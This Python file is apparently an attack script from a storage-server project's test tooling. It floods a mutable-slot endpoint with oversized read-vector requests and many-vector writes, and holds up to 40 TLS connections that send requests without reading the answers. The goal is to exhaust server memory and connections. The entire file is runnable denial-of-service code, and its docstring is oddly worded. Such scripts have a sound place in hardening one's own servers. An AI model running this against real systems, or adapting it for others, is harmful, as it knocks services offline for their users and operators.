"""Test and read vectors without number: 30 times the same megabyte of each share in one answer, unread."""

from __future__ import annotations

import ssl

from misc.attack.insiders import lines, slot_path, writer
from misc.attack.target import Target, again_and_again, from_command_line, refused_or_cut
from pipegrid.wire import gbs_mutable
from pipegrid.wire.storage_messages import ShareChange

INDEX = b"a slot to read.."
SHARE_BYTES = 1 << 20


def attack(target: Target) -> None:
    """Ask for as much as may be, on some connections without taking the answer."""
    request = target.requests.request
    change = {number: ShareChange((), ((0, bytes(SHARE_BYTES)),)) for number in range(8)}
    write = gbs_mutable.pack_request(change, [])
    reads = [(0, SHARE_BYTES)] * gbs_mutable.MAX_READS
    too_much = gbs_mutable.pack_request({}, reads)
    allowed = gbs_mutable.pack_request({}, reads[:7])
    tests = {
        number: ShareChange(((0, SHARE_BYTES, b"no"),) * 16, ((0, b""),) * 16)
        for number in range(128)
    }
    many = gbs_mutable.pack_request(tests, reads[:1])
    held: list[ssl.SSLSocket] = []
    with lines(target, 3) as line:
        line.send([request("POST", slot_path(INDEX), *writer(), body=write)])
        for turn in again_and_again(target, 0.01):
            for body in (too_much, many):
                line.send([request("POST", slot_path(INDEX), *writer(), body=body)])
            ask = request("POST", slot_path(INDEX), *writer(), body=allowed)
            if turn % 5 == 0 and len(held) < 40:
                with refused_or_cut():
                    held.append(target.connect_tls())
                    held[-1].sendall(ask * 3)
            elif turn % 5 == 1:
                line.send([ask])
    for each in held:
        each.close()


if __name__ == "__main__":
    attack(from_command_line(__doc__))
